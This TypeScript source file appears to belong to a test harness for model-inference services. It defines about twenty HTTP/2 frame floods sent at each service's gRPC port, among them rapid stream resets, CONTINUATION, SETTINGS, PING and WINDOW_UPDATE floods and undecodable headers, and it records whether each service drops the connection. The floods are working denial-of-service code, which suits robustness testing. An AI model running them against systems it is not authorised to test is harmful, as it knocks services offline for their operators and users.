// Floods of HTTP/2 frames that cost their sender little, on the gRPC port of each service.

import { modelInferPath } from '../transports.js';
import {
  encodeFrame,
  flag,
  frameType,
  openCall,
  preface,
  settingId,
  settings,
  uint32,
  type Setting,
} from '../wire/http2-frames.js';
import { openSocket } from '../wire/socket.js';
import { type Attack, type AttackContext } from './attack.js';
import { grpcPorts } from './ports.js';

interface Flood {
  readonly name: string;
  /** Sent before the flood, on stream 1 if it opens one. */
  readonly before?: Buffer;
  /** Set if it makes calls, which each service answers in its own way. */
  readonly makesCalls?: boolean;
  /** Returns the frames of one round. `index` counts the rounds. */
  readonly round: (index: number) => Buffer;
}

const { data, headers, priority, rstStream, pushPromise, ping, goaway, windowUpdate, continuation } = frameType;
const stream = (index: number): number => 2 * index + 1;
const call = (id: number): Buffer => openCall(id, modelInferPath);
const always = (frame: Buffer) => (): Buffer => frame;
const settingsFrame = (...entries: readonly Setting[]): Buffer =>
  encodeFrame({ type: frameType.settings, payload: settings(...entries) });

const floods: readonly Flood[] = [
  {
    name: 'rapid resets',
    makesCalls: true,
    round: (index) =>
      Buffer.concat([call(stream(index)), encodeFrame({ type: rstStream, stream: stream(index), payload: uint32(8) })]),
  },
  { name: 'opened streams', makesCalls: true, round: (index) => call(stream(index)) },
  {
    name: 'CONTINUATION frames',
    before: openCall(1, modelInferPath, 0),
    round: always(encodeFrame({ type: continuation, stream: 1, payload: Buffer.from([0x10, 1, 0x61, 1, 0x62]) })),
  },
  {
    name: 'empty CONTINUATION frames',
    before: openCall(1, modelInferPath, 0),
    round: always(encodeFrame({ type: continuation, stream: 1 })),
  },
  { name: 'SETTINGS frames', round: always(settingsFrame([settingId.initialWindowSize, 65_535])) },
  {
    name: 'changes of the window in SETTINGS',
    before: Buffer.concat(Array.from({ length: 100 }, (_, index) => call(stream(index)))),
    round: (index) => settingsFrame([settingId.initialWindowSize, index % 2 === 0 ? 0 : 65_535]),
  },
  {
    name: 'changes of the header table in SETTINGS',
    round: (index) => settingsFrame([settingId.headerTableSize, index % 2 === 0 ? 0 : 2 ** 31 - 1]),
  },
  {
    name: 'SETTINGS frames with many entries',
    round: always(settingsFrame(...Array.from({ length: 100 }, (): Setting => [settingId.initialWindowSize, 1_000]))),
  },
  { name: 'PING frames', round: always(encodeFrame({ type: ping, payload: Buffer.alloc(8) })) },
  {
    name: 'PRIORITY frames',
    round: (index) =>
      encodeFrame({ type: priority, stream: stream(index), payload: Buffer.from([0, 0, 0, 0, index & 0xff]) }),
  },
  { name: 'empty DATA frames', before: call(1), round: always(encodeFrame({ type: data, stream: 1 })) },
  {
    name: 'WINDOW_UPDATE frames',
    before: call(1),
    round: always(encodeFrame({ type: windowUpdate, stream: 1, payload: uint32(1) })),
  },
  {
    name: 'WINDOW_UPDATE frames beyond the maximum',
    before: call(1),
    round: always(encodeFrame({ type: windowUpdate, stream: 1, payload: uint32(2 ** 31 - 1) })),
  },
  { name: 'DATA on streams that are not open', round: (index) => encodeFrame({ type: data, stream: stream(index) }) },
  {
    name: 'RST_STREAM of streams that are not open',
    round: (index) => encodeFrame({ type: rstStream, stream: stream(index), payload: uint32(8) }),
  },
  { name: 'unknown frames', round: always(encodeFrame({ type: 0xfa, payload: Buffer.alloc(100) })) },
  { name: 'GOAWAY frames', round: always(encodeFrame({ type: goaway, payload: Buffer.alloc(8) })) },
  { name: 'PUSH_PROMISE frames', round: always(encodeFrame({ type: pushPromise, stream: 1, payload: uint32(2) })) },
  {
    name: 'headers that cannot be decoded',
    round: (index) =>
      encodeFrame({
        ...{ type: headers, flags: flag.endHeaders, stream: stream(index) },
        payload: Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0x0f]),
      }),
  },
  { name: 'frames without a preface', before: Buffer.from([0]), round: always(Buffer.alloc(100)) },
];

const roundsPerSend = 100;
/** Time after which a service that no longer reads has ended the flood. */
const stallMs = 1_000;

/** Sends the flood until the service closes the connection or all rounds are sent. The statuses say which. */
async function flood(
  { before = Buffer.alloc(0), round }: Flood,
  address: string,
  context: AttackContext,
): Promise<void> {
  const rounds = context.full ? 200_000 : 3_000;
  using socket = await openSocket(address);
  await socket.send(Buffer.concat([preface, settingsFrame(), before]));
  let index = 0;
  for (let open = true; open && index < rounds;) {
    const frames = Array.from({ length: roundsPerSend }, () => round(index++));
    open = await socket.send(Buffer.concat(frames), stallMs);
  }
  const status = (await socket.untilClosed(100)) ? 'CLOSED' : 'open';
  context.tally.add({ status, message: `after ${index} rounds`, messageBytes: 0, body: Buffer.alloc(0) });
}

export const frameFloods: readonly Attack[] = grpcPorts.flatMap(({ name: port, address, isSimilar }) =>
  floods.map((each) => ({
    group: 'floods of frames',
    name: `a flood of ${each.name} at ${port}`,
    onlyFull: isSimilar && each.makesCalls !== true,
    allowed: ['CLOSED', 'open'],
    run: (context: AttackContext) => flood(each, address(context.target), context),
  })),
);
